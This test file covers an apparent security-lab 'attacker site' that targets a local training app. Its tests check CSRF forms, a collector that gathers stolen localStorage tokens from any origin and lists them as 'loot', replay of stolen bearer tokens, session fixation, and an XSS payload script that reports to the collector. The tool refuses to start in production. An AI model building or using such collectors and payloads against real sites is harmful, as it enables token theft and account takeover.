import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { createApp } from '../src/app.ts';
import { loadConfig } from '../src/config.ts';
import { createLootStore } from '../src/loot-store.ts';

function buildSite() {
  const loot = createLootStore(() => new Date('2026-01-05T09:00:00.000Z'));
  const config = loadConfig({ ATTACKER_TARGET_ORIGIN: 'http://localhost:5173' });
  return { loot, callback: createApp({ config, loot }).callback() };
}

describe('GET /', () => {
  it('links every attack page', async () => {
    const response = await request(buildSite().callback).get('/');
    expect(response.status).toBe(200);
    expect(response.text).toContain('href="/csrf"');
  });
});

describe('GET /csrf', () => {
  it('aims its form at the target origin', async () => {
    const response = await request(buildSite().callback).get('/csrf?run=form');
    expect(response.text).toContain('action="http://localhost:5173/api/session/logout-all"');
    expect(response.text).toContain('const run = "form";');
  });

  it('runs nothing on load for an unknown run', async () => {
    const response = await request(buildSite().callback).get('/csrf?run=<script>');
    expect(response.text).toContain('const run = null;');
    expect(response.text).not.toContain('<script>\nconst run');
  });
});

describe('POST /collect', () => {
  it('keeps a text/plain report from any origin and shows it at GET /loot', async () => {
    const site = buildSite();
    const sent = await request(site.callback)
      .post('/collect')
      .set('Origin', 'http://localhost:5173')
      .set('Content-Type', 'text/plain;charset=UTF-8')
      .send(JSON.stringify({ kind: 'localStorage', data: { token: 'abc' } }));
    expect(sent.status).toBe(201);
    expect(sent.headers['access-control-allow-origin']).toBe('*');
    const loot = await request(site.callback).get('/loot');
    expect(loot.body.loot).toEqual([
      {
        at: '2026-01-05T09:00:00.000Z',
        kind: 'localStorage',
        from: 'http://localhost:5173',
        data: { token: 'abc' },
      },
    ]);
  });

  it('refuses a report without a kind', async () => {
    const response = await request(buildSite().callback)
      .post('/collect')
      .set('Content-Type', 'application/json')
      .send({ data: 1 });
    expect(response.status).toBe(400);
    expect(response.body.error.code).toBe('validation_failed');
  });

  it('answers the preflight of a JSON report', async () => {
    const response = await request(buildSite().callback).options('/collect');
    expect(response.status).toBe(204);
    expect(response.headers['access-control-allow-headers']).toBe('Content-Type');
  });
});

describe('DELETE /loot', () => {
  it('empties the collector', async () => {
    const site = buildSite();
    site.loot.add({ kind: 'x', from: null, data: null });
    expect((await request(site.callback).delete('/loot')).status).toBe(204);
    expect(site.loot.list()).toEqual([]);
  });
});

describe('POST /replay', () => {
  it('refuses a route it does not know', async () => {
    const response = await request(buildSite().callback)
      .post('/replay')
      .send({ api: 'jwt', route: 'DELETE /users' });
    expect(response.status).toBe(400);
  });

  it('answers 502 when the target does not answer', async () => {
    const loot = createLootStore();
    const config = loadConfig({ ATTACKER_TARGET_ORIGIN: 'http://127.0.0.1:1' });
    const response = await request(createApp({ config, loot }).callback())
      .post('/replay')
      .send({ api: 'jwt', route: 'GET /me', bearer: 'token' });
    expect(response.status).toBe(502);
    expect(response.body.error.code).toBe('target_unreachable');
  });
});

describe('loadConfig()', () => {
  it('listens on 127.0.0.1:4300 and attacks http://localhost:5173 by default', () => {
    expect(loadConfig({})).toEqual({
      port: 4300,
      host: '127.0.0.1',
      targetOrigin: 'http://localhost:5173',
    });
  });

  it('refuses to start in production', () => {
    expect(() => loadConfig({ NODE_ENV: 'production' })).toThrow(/development lab tool/);
  });
});

describe('POST /fixation/session', () => {
  it('answers 502 when the session API does not answer', async () => {
    const loot = createLootStore();
    const config = loadConfig({ ATTACKER_TARGET_ORIGIN: 'http://127.0.0.1:1' });
    const response = await request(createApp({ config, loot }).callback()).post(
      '/fixation/session',
    );
    expect(response.status).toBe(502);
    expect(loot.list()).toEqual([]);
  });
});

describe('GET /xss/payload.js', () => {
  it('serves a script that reports to this site’s collector', async () => {
    const response = await request(buildSite().callback)
      .get('/xss/payload.js')
      .set('Host', '127.0.0.1:4300');
    expect(response.headers['content-type']).toMatch(/^application\/javascript/);
    expect(response.text).toContain('"http://127.0.0.1:4300/collect"');
    expect(response.text).toContain("fetch('/api/jwt/refresh'");
  });
});
